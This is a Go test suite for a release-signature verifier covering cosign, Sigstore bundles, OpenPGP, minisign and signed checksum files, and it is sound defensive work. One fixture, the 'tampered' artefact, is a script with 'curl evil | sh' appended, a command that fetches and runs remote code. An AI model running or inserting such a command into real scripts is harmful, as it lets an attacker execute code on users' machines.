package updates

import (
	"bytes"
	"context"
	"crypto"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/sha256"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"math/big"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"aead.dev/minisign"
	"github.com/ProtonMail/go-crypto/openpgp"
	"github.com/ProtonMail/go-crypto/openpgp/armor"
	"github.com/ProtonMail/go-crypto/openpgp/packet"
	"github.com/google/go-cmp/cmp"
	protobundle "github.com/sigstore/protobuf-specs/gen/pb-go/bundle/v1"
	protocommon "github.com/sigstore/protobuf-specs/gen/pb-go/common/v1"
	protodsse "github.com/sigstore/protobuf-specs/gen/pb-go/dsse"
	"github.com/sigstore/sigstore/pkg/cryptoutils"
	"google.golang.org/protobuf/encoding/protojson"
)

// Keys are generated at run time; no private key is ever committed.

type cosignKey struct {
	priv   *ecdsa.PrivateKey
	pubPEM []byte
	fp     string
}

func newCosignKey(t testing.TB) cosignKey {
	t.Helper()
	priv, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	pemBytes, err := cryptoutils.MarshalPublicKeyToPEM(priv.Public())
	if err != nil {
		t.Fatal(err)
	}
	fp, err := x509Fingerprint(priv.Public())
	if err != nil {
		t.Fatal(err)
	}
	return cosignKey{priv: priv, pubPEM: pemBytes, fp: fp}
}

// signRaw is what `cosign sign-blob --key` computes: an ASN.1 DER ECDSA
// signature over the SHA-256 digest of the blob.
func (k cosignKey) signRaw(t testing.TB, data []byte) []byte {
	t.Helper()
	d := sha256.Sum256(data)
	sig, err := ecdsa.SignASN1(rand.Reader, k.priv, d[:])
	if err != nil {
		t.Fatal(err)
	}
	return sig
}

// sign returns the base64 text cosign writes to <blob>.sig.
func (k cosignKey) sign(t testing.TB, data []byte) []byte {
	return []byte(base64.StdEncoding.EncodeToString(k.signRaw(t, data)))
}

// bundle builds a v0.3 Sigstore bundle with a public-key hint and a
// message signature, as `cosign sign-blob --key --new-bundle-format` does
// without a transparency log.
func (k cosignKey) bundle(t testing.TB, data []byte) []byte {
	t.Helper()
	d := sha256.Sum256(data)
	b := &protobundle.Bundle{
		MediaType: "application/vnd.dev.sigstore.bundle.v0.3+json",
		VerificationMaterial: &protobundle.VerificationMaterial{
			Content: &protobundle.VerificationMaterial_PublicKey{PublicKey: &protocommon.PublicKeyIdentifier{Hint: k.fp}},
		},
		Content: &protobundle.Bundle_MessageSignature{MessageSignature: &protocommon.MessageSignature{
			MessageDigest: &protocommon.HashOutput{Algorithm: protocommon.HashAlgorithm_SHA2_256, Digest: d[:]},
			Signature:     k.signRaw(t, data),
		}},
	}
	out, err := protojson.Marshal(b)
	if err != nil {
		t.Fatal(err)
	}
	return out
}

type pgpKey struct {
	entity *openpgp.Entity
	pub    []byte // armored public key
	fp     string
}

func newPGPKey(t *testing.T, name string) pgpKey {
	t.Helper()
	cfg := &packet.Config{Algorithm: packet.PubKeyAlgoEdDSA}
	e, err := openpgp.NewEntity(name, "release signing", name+"@example.com", cfg)
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	w, err := armor.Encode(&buf, openpgp.PublicKeyType, nil)
	if err != nil {
		t.Fatal(err)
	}
	if err := e.Serialize(w); err != nil {
		t.Fatal(err)
	}
	w.Close()
	return pgpKey{entity: e, pub: buf.Bytes(), fp: hex.EncodeToString(e.PrimaryKey.Fingerprint)}
}

func (k pgpKey) signArmored(t *testing.T, data []byte) []byte {
	t.Helper()
	var buf bytes.Buffer
	if err := openpgp.ArmoredDetachSign(&buf, k.entity, bytes.NewReader(data), nil); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func (k pgpKey) signBinary(t *testing.T, data []byte) []byte {
	t.Helper()
	var buf bytes.Buffer
	if err := openpgp.DetachSign(&buf, k.entity, bytes.NewReader(data), nil); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// binaryKeyring is the public key in binary form, as `gpg --export` writes it.
func (k pgpKey) binaryKeyring(t *testing.T) []byte {
	t.Helper()
	var buf bytes.Buffer
	if err := k.entity.Serialize(&buf); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

type miniKey struct {
	priv minisign.PrivateKey
	pub  []byte
	id   string
}

func newMinisignKey(t testing.TB) miniKey {
	t.Helper()
	pub, priv, err := minisign.GenerateKey(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	text, _ := pub.MarshalText()
	return miniKey{priv: priv, pub: text, id: minisignKeyID(pub.ID())}
}

// signHashed is minisign's default (pre-hashed, "ED") signature.
func (k miniKey) signHashed(data []byte) []byte {
	r := minisign.NewReader(bytes.NewReader(data))
	_, _ = r.Read(make([]byte, len(data)+1))
	for {
		n, err := r.Read(make([]byte, 4096))
		if n == 0 || err != nil {
			break
		}
	}
	return r.Sign(k.priv)
}

func write(t testing.TB, dir, name string, data []byte) string {
	t.Helper()
	p := filepath.Join(dir, name)
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, data, 0o644); err != nil {
		t.Fatal(err)
	}
	return p
}

func sha256hex(data []byte) string {
	d := sha256.Sum256(data)
	return hex.EncodeToString(d[:])
}

type keyFile struct {
	name, kind string
	data       []byte
}

type verifyCase struct {
	name                   string
	files                  map[string][]byte // written below dist/; "app" is the artefact
	keys                   []keyFile
	verdict, method, keyID string
}

func TestVerifyArtifacts(t *testing.T) {
	cosign := newCosignKey(t)
	otherCosign := newCosignKey(t)
	pgp := newPGPKey(t, "release")
	otherPGP := newPGPKey(t, "stranger")
	mini := newMinisignKey(t)
	otherMini := newMinisignKey(t)

	artefact := []byte("#!/bin/sh\necho product v1.2.3\n")
	tampered := []byte("#!/bin/sh\necho product v1.2.3; curl evil | sh\n")

	cases := []verifyCase{
		{
			name:    "cosign blob signature verifies",
			files:   map[string][]byte{"app": artefact, "app.sig": cosign.sign(t, artefact)},
			keys:    []keyFile{{"cosign.pub", "", cosign.pubPEM}},
			verdict: VerdictVerified, method: MethodCosignBlob, keyID: cosign.fp,
		},
		{
			name:    "cosign blob signature with a second key given verifies with the right one",
			files:   map[string][]byte{"app": artefact, "app.sig": cosign.sign(t, artefact)},
			keys:    []keyFile{{"a.pub", "", otherCosign.pubPEM}, {"b.pub", "cosign", cosign.pubPEM}},
			verdict: VerdictVerified, method: MethodCosignBlob, keyID: cosign.fp,
		},
		{
			name:    "cosign: tampered artefact",
			files:   map[string][]byte{"app": tampered, "app.sig": cosign.sign(t, artefact)},
			keys:    []keyFile{{"cosign.pub", "", cosign.pubPEM}},
			verdict: VerdictBadSignature, method: MethodCosignBlob,
		},
		{
			name:    "cosign: signature of another file",
			files:   map[string][]byte{"app": artefact, "app.sig": cosign.sign(t, []byte("other"))},
			keys:    []keyFile{{"cosign.pub", "", cosign.pubPEM}},
			verdict: VerdictBadSignature, method: MethodCosignBlob,
		},
		{
			name:    "cosign: garbage signature",
			files:   map[string][]byte{"app": artefact, "app.sig": []byte("not base64 at all!")},
			keys:    []keyFile{{"cosign.pub", "", cosign.pubPEM}},
			verdict: VerdictBadSignature, method: MethodCosignBlob,
		},
		{
			name:    "cosign: no key given",
			files:   map[string][]byte{"app": artefact, "app.sig": cosign.sign(t, artefact)},
			verdict: VerdictUnverifiable, method: MethodCosignBlob,
		},
		{
			name:    "unsigned",
			files:   map[string][]byte{"app": artefact},
			keys:    []keyFile{{"cosign.pub", "", cosign.pubPEM}},
			verdict: VerdictUnsigned,
		},
		{
			name:    "legacy cosign bundle JSON",
			files:   map[string][]byte{"app": artefact, "app.bundle": []byte(`{"base64Signature":"` + string(cosign.sign(t, artefact)) + `"}`)},
			keys:    []keyFile{{"cosign.pub", "", cosign.pubPEM}},
			verdict: VerdictVerified, method: MethodCosignBlob, keyID: cosign.fp,
		},
		{
			name:    "sigstore bundle verifies",
			files:   map[string][]byte{"app": artefact, "app.sigstore.json": cosign.bundle(t, artefact)},
			keys:    []keyFile{{"cosign.pub", "", cosign.pubPEM}},
			verdict: VerdictVerified, method: MethodSigstoreBundle, keyID: cosign.fp,
		},
		{
			name:    "sigstore bundle: tampered artefact",
			files:   map[string][]byte{"app": tampered, "app.sigstore.json": cosign.bundle(t, artefact)},
			keys:    []keyFile{{"cosign.pub", "", cosign.pubPEM}},
			verdict: VerdictBadSignature, method: MethodSigstoreBundle,
		},
		{
			name:    "sigstore bundle: wrong key",
			files:   map[string][]byte{"app": artefact, "app.sigstore.json": cosign.bundle(t, artefact)},
			keys:    []keyFile{{"other.pub", "", otherCosign.pubPEM}},
			verdict: VerdictBadSignature, method: MethodSigstoreBundle,
		},
		{
			name:    "sigstore bundle: no key",
			files:   map[string][]byte{"app": artefact, "app.sigstore.json": cosign.bundle(t, artefact)},
			verdict: VerdictUnverifiable, method: MethodSigstoreBundle,
		},
		{
			name:    "sigstore bundle: not a bundle",
			files:   map[string][]byte{"app": artefact, "app.sigstore.json": []byte(`{"mediaType": "application/vnd.dev.sigstore.bundle.v0.3+json"}`)},
			keys:    []keyFile{{"cosign.pub", "", cosign.pubPEM}},
			verdict: VerdictBadSignature, method: MethodSigstoreBundle,
		},
		{
			name:    "openpgp armored .asc verifies",
			files:   map[string][]byte{"app": artefact, "app.asc": pgp.signArmored(t, artefact)},
			keys:    []keyFile{{"release.asc", "", pgp.pub}},
			verdict: VerdictVerified, method: MethodOpenPGP, keyID: pgp.fp,
		},
		{
			name:    "openpgp binary .sig with a binary keyring verifies",
			files:   map[string][]byte{"app": artefact, "app.sig": pgp.signBinary(t, artefact)},
			keys:    []keyFile{{"release.gpg", "pgp", pgp.binaryKeyring(t)}},
			verdict: VerdictVerified, method: MethodOpenPGP, keyID: pgp.fp,
		},
		{
			name:    "openpgp: tampered artefact",
			files:   map[string][]byte{"app": tampered, "app.asc": pgp.signArmored(t, artefact)},
			keys:    []keyFile{{"release.asc", "", pgp.pub}},
			verdict: VerdictBadSignature, method: MethodOpenPGP,
		},
		{
			name:    "openpgp: signed by a key not in the keyring",
			files:   map[string][]byte{"app": artefact, "app.asc": otherPGP.signArmored(t, artefact)},
			keys:    []keyFile{{"release.asc", "", pgp.pub}},
			verdict: VerdictUnverifiable, method: MethodOpenPGP,
		},
		{
			name:    "openpgp: no keyring",
			files:   map[string][]byte{"app": artefact, "app.sig": pgp.signBinary(t, artefact)},
			verdict: VerdictUnverifiable, method: MethodOpenPGP,
		},
		{
			name:    "minisign pre-hashed verifies",
			files:   map[string][]byte{"app": artefact, "app.minisig": mini.signHashed(artefact)},
			keys:    []keyFile{{"minisign.pub", "", mini.pub}},
			verdict: VerdictVerified, method: MethodMinisign, keyID: mini.id,
		},
		{
			name:    "minisign legacy verifies",
			files:   map[string][]byte{"app": artefact, "app.minisig": minisign.Sign(mini.priv, artefact)},
			keys:    []keyFile{{"minisign.pub", "minisign", mini.pub}},
			verdict: VerdictVerified, method: MethodMinisign, keyID: mini.id,
		},
		{
			name:    "minisign: tampered artefact",
			files:   map[string][]byte{"app": tampered, "app.minisig": mini.signHashed(artefact)},
			keys:    []keyFile{{"minisign.pub", "", mini.pub}},
			verdict: VerdictBadSignature, method: MethodMinisign,
		},
		{
			name:    "minisign: other key",
			files:   map[string][]byte{"app": artefact, "app.minisig": otherMini.signHashed(artefact)},
			keys:    []keyFile{{"minisign.pub", "", mini.pub}},
			verdict: VerdictUnverifiable, method: MethodMinisign,
		},
		func() verifyCase {
			sums := []byte(sha256hex(artefact) + "  app\n" + sha256hex([]byte("x")) + "  other\n")
			return struct {
				name                   string
				files                  map[string][]byte
				keys                   []keyFile
				verdict, method, keyID string
			}{"signed checksums.txt verifies", map[string][]byte{"app": artefact, "checksums.txt": sums, "checksums.txt.sig": cosign.sign(t, sums)},
				[]keyFile{{"cosign.pub", "", cosign.pubPEM}}, VerdictVerified, MethodChecksums, cosign.fp}
		}(),
	}
	// Checksum cases built with their own content.
	sums := []byte(sha256hex(artefact) + "  app\n")
	sumsTamperedLine := []byte(sha256hex(tampered) + "  app\n")
	cases = append(cases,
		verifyCase{"SHA256SUMS signed with minisign verifies", map[string][]byte{"app": artefact, "SHA256SUMS": sums, "SHA256SUMS.minisig": mini.signHashed(sums)},
			[]keyFile{{"minisign.pub", "", mini.pub}}, VerdictVerified, MethodChecksums, mini.id},
		verifyCase{"SHA256SUMS with OpenPGP .asc verifies", map[string][]byte{"app": artefact, "SHA256SUMS": sums, "SHA256SUMS.asc": pgp.signArmored(t, sums)},
			[]keyFile{{"release.asc", "", pgp.pub}}, VerdictVerified, MethodChecksums, pgp.fp},
		verifyCase{"checksums: tampered artefact", map[string][]byte{"app": tampered, "checksums.txt": sums, "checksums.txt.sig": cosign.sign(t, sums)},
			[]keyFile{{"cosign.pub", "", cosign.pubPEM}}, VerdictDigestMismatch, MethodChecksums, ""},
		verifyCase{"checksums: tampered line, re-signed file still mismatches", map[string][]byte{"app": artefact, "myapp_1.0_checksums.txt": sumsTamperedLine, "myapp_1.0_checksums.txt.sig": cosign.sign(t, sumsTamperedLine)},
			[]keyFile{{"cosign.pub", "", cosign.pubPEM}}, VerdictDigestMismatch, MethodChecksums, ""},
		verifyCase{"checksums: line altered after signing", map[string][]byte{"app": tampered, "checksums.txt": sumsTamperedLine, "checksums.txt.sig": cosign.sign(t, sums)},
			[]keyFile{{"cosign.pub", "", cosign.pubPEM}}, VerdictBadSignature, MethodChecksums, ""},
		verifyCase{"checksums: unsigned checksum file", map[string][]byte{"app": artefact, "SHA256SUMS": sums},
			[]keyFile{{"cosign.pub", "", cosign.pubPEM}}, VerdictUnsigned, "", ""},
		verifyCase{"checksums: signed but no key", map[string][]byte{"app": artefact, "checksums.txt": sums, "checksums.txt.sig": cosign.sign(t, sums)},
			nil, VerdictUnverifiable, MethodChecksums, ""},
		verifyCase{"good signature beside a bad one fails", map[string][]byte{"app": artefact, "app.sig": cosign.sign(t, artefact), "app.minisig": mini.signHashed(tampered)},
			[]keyFile{{"cosign.pub", "", cosign.pubPEM}, {"minisign.pub", "", mini.pub}}, VerdictBadSignature, MethodMinisign, ""},
	)

	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			root := t.TempDir()
			for name, data := range tc.files {
				write(t, root, "dist/"+name, data)
			}
			// Keys with a kind come from cemark.yaml (relative path, type
			// given); the others from --update-key (absolute, type inferred).
			var keyPaths []string
			var declared []DeclaredKey
			for _, k := range tc.keys {
				p := write(t, root, "keys/"+k.name, k.data)
				if k.kind != "" {
					declared = append(declared, DeclaredKey{Name: k.name, Type: k.kind, Path: "keys/" + k.name})
					continue
				}
				keyPaths = append(keyPaths, p)
			}
			keys := LoadKeys(root, declared, keyPaths)
			if len(keys.Errors) > 0 {
				t.Fatalf("key errors: %v", keys.Errors)
			}
			v := &Verifier{Keys: keys, Root: root, Now: time.Now()}
			got := v.VerifyArtifacts(context.Background(), []string{filepath.Join(root, "dist", "app")})
			if len(got) != 1 {
				t.Fatalf("got %d verdicts, want 1", len(got))
			}
			g := got[0]
			if g.Verdict != tc.verdict || g.Method != tc.method || g.KeyID != tc.keyID {
				t.Errorf("verdict %q method %q key %q, want %q %q %q (detail: %s)", g.Verdict, g.Method, g.KeyID, tc.verdict, tc.method, tc.keyID, g.Detail)
			}
			if g.Path != "dist/app" {
				t.Errorf("path %q, want dist/app", g.Path)
			}
			if want := sha256hex(tc.files["app"]); g.SHA256 != want {
				t.Errorf("sha256 %s, want %s", g.SHA256, want)
			}
		})
	}
}

func TestParseKeyFingerprints(t *testing.T) {
	c := newCosignKey(t)
	k, err := ParseKey(c.pubPEM, "")
	if err != nil || k.Kind != KeyCosign || k.Fingerprint != c.fp {
		t.Fatalf("cosign key: %+v, %v", k.Fingerprint, err)
	}
	der, _ := cryptoutils.MarshalPublicKeyToDER(c.priv.Public())
	if sum := sha256.Sum256(der); hex.EncodeToString(sum[:]) != k.Fingerprint {
		t.Errorf("fingerprint is not the SHA-256 of the DER key")
	}
	if _, err := ParseKey([]byte("hello"), ""); err == nil {
		t.Error("garbage key accepted")
	}
	if _, err := ParseKey([]byte("-----BEGIN PUBLIC KEY-----\nAAAA\n-----END PUBLIC KEY-----\n"), ""); err == nil {
		t.Error("broken PEM accepted")
	}
	for _, priv := range []string{"-----BEGIN " + "EC PRIVATE KEY-----\nMHc=\n-----END EC PRIVATE KEY-----\n", "-----BEGIN " + "PGP PRIVATE KEY BLOCK-----\n\n-----END PGP PRIVATE KEY BLOCK-----\n", "untrusted comment: minisign encrypted secret key\nRWQ=\n"} {
		if _, err := ParseKey([]byte(priv), ""); err == nil || !strings.Contains(err.Error(), "private key") || strings.Contains(err.Error(), "MHc") {
			t.Errorf("private key %q: error %v", priv[:30], err)
		}
	}
	if NormalizeFingerprint("SHA256:AB:CD ef") != "abcdef" {
		t.Error("NormalizeFingerprint")
	}
	_ = crypto.SHA256
}

// TestOpenPGPSignedAfterReferenceTime: the run's reference time is the
// commit time, and releases are signed after the commit. A signature made
// later than the reference time still verifies; the key is judged when it
// signed.
func TestOpenPGPSignedAfterReferenceTime(t *testing.T) {
	pgp := newPGPKey(t, "release")
	artefact := []byte("payload")
	root := t.TempDir()
	app := write(t, root, "dist/app", artefact)
	write(t, root, "dist/app.asc", pgp.signArmored(t, artefact))
	tool := write(t, root, "dist/tool", artefact)
	write(t, root, "dist/tool.sig", pgp.signBinary(t, artefact))
	keys := LoadKeys(root, nil, []string{write(t, root, "k.asc", pgp.pub)})
	v := &Verifier{Keys: keys, Root: root, Now: time.Now().Add(-48 * time.Hour)}
	for _, got := range v.VerifyArtifacts(context.Background(), []string{app, tool}) {
		if got.Verdict != VerdictVerified {
			t.Errorf("%s: %s (%s), want verified", got.Path, got.Verdict, got.Detail)
		}
	}
	if _, ok := OpenPGPSignatureTime([]byte("garbage")); ok {
		t.Error("signature time read from garbage")
	}
}

// TestKeylessBundle: a bundle whose verification material is a
// certificate needs a trusted root; without one it is unverifiable here,
// never verified and never "bad".
func TestKeylessBundle(t *testing.T) {
	key := newCosignKey(t)
	tmpl := &x509.Certificate{
		SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "sigstore-intermediate"},
		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour),
		KeyUsage: x509.KeyUsageDigitalSignature, ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageCodeSigning},
	}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, key.priv.Public(), key.priv)
	if err != nil {
		t.Fatal(err)
	}
	artefact := []byte("payload")
	d := sha256.Sum256(artefact)
	b := &protobundle.Bundle{
		MediaType: "application/vnd.dev.sigstore.bundle.v0.3+json",
		VerificationMaterial: &protobundle.VerificationMaterial{
			Content: &protobundle.VerificationMaterial_Certificate{Certificate: &protocommon.X509Certificate{RawBytes: der}},
		},
		Content: &protobundle.Bundle_MessageSignature{MessageSignature: &protocommon.MessageSignature{
			MessageDigest: &protocommon.HashOutput{Algorithm: protocommon.HashAlgorithm_SHA2_256, Digest: d[:]},
			Signature:     key.signRaw(t, artefact),
		}},
	}
	data, err := protojson.Marshal(b)
	if err != nil {
		t.Fatal(err)
	}
	root := t.TempDir()
	app := write(t, root, "dist/app", artefact)
	write(t, root, "dist/app.sigstore.json", data)
	for _, tc := range []struct{ name, trusted, detail string }{
		{"no trusted root", "", "no trusted root given"},
		{"unreadable trusted root", write(t, root, "trusted_root.json", []byte("{not json")), "could not be read"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			v := &Verifier{Keys: &KeySet{}, Root: root, TrustedRoot: tc.trusted, Now: time.Now()}
			got := v.VerifyArtifacts(context.Background(), []string{app})[0]
			if got.Verdict != VerdictUnverifiable || got.Method != MethodSigstoreBundle || !strings.Contains(got.Detail, tc.detail) {
				t.Errorf("got %s/%s %q, want unverifiable sigstore-bundle mentioning %q", got.Verdict, got.Method, got.Detail, tc.detail)
			}
		})
	}
}

func TestResolveArtifacts(t *testing.T) {
	root := t.TempDir()
	for _, n := range []string{"dist/app_linux_amd64.tar.gz", "dist/app_linux_amd64.tar.gz.sig", "dist/checksums.txt", "dist/checksums.txt.sigstore.json", "dist/app.pem", "dist/app.deb"} {
		write(t, root, n, []byte(n))
	}
	got, unmatched := ResolveArtifacts(root, []string{filepath.Join(root, "dist", "app.deb")}, []string{"dist/*", "out/*.zip"})
	var rel []string
	for _, p := range got {
		rel = append(rel, displayPath(root, p))
	}
	if diff := cmp.Diff([]string{"dist/app.deb", "dist/app_linux_amd64.tar.gz"}, rel); diff != "" {
		t.Errorf("artefacts (-want +got):\n%s", diff)
	}
	if diff := cmp.Diff([]string{"out/*.zip"}, unmatched); diff != "" {
		t.Errorf("unmatched (-want +got):\n%s", diff)
	}
}

func TestParseChecksums(t *testing.T) {
	a, b := strings.Repeat("a", 64), strings.Repeat("B", 128)
	got := parseChecksums([]byte("# comment\n" + a + "  dist/app\n" + b + " *tool.exe\nSHA256 (bsd.tar) = " + a + "\nnot a line\nzz  x\n"))
	want := map[string]string{"app": a, "tool.exe": strings.ToLower(b), "bsd.tar": a}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("mismatch (-want +got):\n%s", diff)
	}
}

func FuzzParseChecksums(f *testing.F) {
	f.Add([]byte(strings.Repeat("a", 64) + "  app\n"))
	f.Add([]byte("SHA256 (x) = " + strings.Repeat("0", 64) + "\n"))
	f.Fuzz(func(t *testing.T, data []byte) {
		for name, sum := range parseChecksums(data) {
			if len(sum) != 64 && len(sum) != 128 || strings.Contains(name, "/") {
				t.Fatalf("bad entry %q %q", name, sum)
			}
		}
	})
}

func FuzzSignatureFormats(f *testing.F) {
	f.Add([]byte("MEUCIQ=="), ".sig")
	f.Add([]byte("-----BEGIN PGP SIGNATURE-----\n\n-----END PGP SIGNATURE-----\n"), ".asc")
	f.Add([]byte("untrusted comment: x\nRWQ=\n"), ".minisig")
	f.Add([]byte(`{"mediaType":"application/vnd.dev.sigstore.bundle.v0.3+json"}`), ".sigstore.json")
	f.Fuzz(func(t *testing.T, sig []byte, suffix string) {
		root := t.TempDir()
		app := write(t, root, "app", []byte("payload"))
		name := "app.sig"
		for _, known := range signatureSuffixes {
			if suffix == known {
				name = "app" + suffix
			}
		}
		write(t, root, name, sig)
		v := &Verifier{Keys: &KeySet{}, Root: root, Now: time.Unix(0, 0)}
		got := v.VerifyArtifacts(context.Background(), []string{app})
		if len(got) != 1 || got[0].Verdict == VerdictVerified {
			t.Fatalf("garbage verified without a key: %+v", got)
		}
	})
}

// TestKeylessCosignSignature: `cosign sign-blob --output-certificate`
// leaves a certificate beside the signature. The signature is checked
// against the certificate's key (tampering is caught); the chain is not
// verified offline, so an intact one is "unverifiable", not "verified".
func TestKeylessCosignSignature(t *testing.T) {
	signer := newCosignKey(t)
	other := newCosignKey(t)
	tmpl := &x509.Certificate{
		SerialNumber: big.NewInt(7), EmailAddresses: []string{"release@acme.example"},
		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour),
		KeyUsage: x509.KeyUsageDigitalSignature, ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageCodeSigning},
	}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, signer.priv.Public(), signer.priv)
	if err != nil {
		t.Fatal(err)
	}
	certPEM, err := cryptoutils.MarshalCertificateToPEM(&x509.Certificate{Raw: der})
	if err != nil {
		t.Fatal(err)
	}
	artefact := []byte("payload")
	cases := []struct {
		name     string
		content  []byte
		cert     []byte
		keys     [][]byte
		verdict  string
		inDetail string
	}{
		{"PEM certificate", artefact, certPEM, nil, VerdictUnverifiable, "release@acme.example"},
		{"base64 PEM certificate (goreleaser)", artefact, []byte(base64.StdEncoding.EncodeToString(certPEM)), nil, VerdictUnverifiable, "not verified offline"},
		{"another key given", artefact, certPEM, [][]byte{other.pubPEM}, VerdictUnverifiable, "release@acme.example"},
		{"tampered artefact", []byte("payload!"), certPEM, nil, VerdictBadSignature, "does not match the certificate"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			root := t.TempDir()
			app := write(t, root, "dist/app", tc.content)
			write(t, root, "dist/app.sig", signer.sign(t, artefact))
			write(t, root, "dist/app.pem", tc.cert)
			var kp []string
			for i, k := range tc.keys {
				kp = append(kp, write(t, root, fmt.Sprintf("k%d.pub", i), k))
			}
			v := &Verifier{Keys: LoadKeys(root, nil, kp), Root: root, Now: time.Now()}
			got := v.VerifyArtifacts(context.Background(), []string{app})[0]
			if got.Verdict != tc.verdict || got.Method != MethodCosignBlob || !strings.Contains(got.Detail, tc.inDetail) {
				t.Errorf("got %s/%s %q, want %s mentioning %q", got.Verdict, got.Method, got.Detail, tc.verdict, tc.inDetail)
			}
		})
	}
}

// TestDSSEBundle: an attestation bundle (DSSE envelope holding an in-toto
// statement, as `cosign attest-blob --new-bundle-format` writes) verifies
// an artefact when the signature verifies and the artefact's digest is a
// subject of the statement.
func TestDSSEBundle(t *testing.T) {
	key := newCosignKey(t)
	artefact := []byte("payload")
	makeBundle := func(subject []byte, alterAfterSigning bool) []byte {
		stmt := `{"_type":"https://in-toto.io/Statement/v1","subject":[{"name":"app","digest":{"sha256":"` + sha256hex(subject) +
			`"}}],"predicateType":"https://slsa.dev/provenance/v1","predicate":{"buildDefinition":{}}}`
		const payloadType = "application/vnd.in-toto+json"
		pae := fmt.Sprintf("DSSEv1 %d %s %d %s", len(payloadType), payloadType, len(stmt), stmt)
		sig := key.signRaw(t, []byte(pae))
		if alterAfterSigning {
			stmt = strings.Replace(stmt, "buildDefinition", "buildDefinitioX", 1)
		}
		b := &protobundle.Bundle{
			MediaType: "application/vnd.dev.sigstore.bundle.v0.3+json",
			VerificationMaterial: &protobundle.VerificationMaterial{
				Content: &protobundle.VerificationMaterial_PublicKey{PublicKey: &protocommon.PublicKeyIdentifier{Hint: key.fp}},
			},
			Content: &protobundle.Bundle_DsseEnvelope{DsseEnvelope: &protodsse.Envelope{
				Payload: []byte(stmt), PayloadType: payloadType,
				Signatures: []*protodsse.Signature{{Sig: sig}},
			}},
		}
		out, err := protojson.Marshal(b)
		if err != nil {
			t.Fatal(err)
		}
		return out
	}
	cases := []struct {
		name    string
		content []byte
		bundle  []byte
		verdict string
	}{
		{"subject matches", artefact, makeBundle(artefact, false), VerdictVerified},
		{"artefact changed", []byte("payload!"), makeBundle(artefact, false), VerdictBadSignature},
		{"statement altered after signing", artefact, makeBundle(artefact, true), VerdictBadSignature},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			root := t.TempDir()
			app := write(t, root, "dist/app", tc.content)
			write(t, root, "dist/app.sigstore.json", tc.bundle)
			v := &Verifier{Keys: LoadKeys(root, nil, []string{write(t, root, "k.pub", key.pubPEM)}), Root: root, Now: time.Now()}
			got := v.VerifyArtifacts(context.Background(), []string{app})[0]
			if got.Verdict != tc.verdict || got.Method != MethodSigstoreBundle {
				t.Errorf("got %s/%s (%s), want %s", got.Verdict, got.Method, got.Detail, tc.verdict)
			}
		})
	}
}
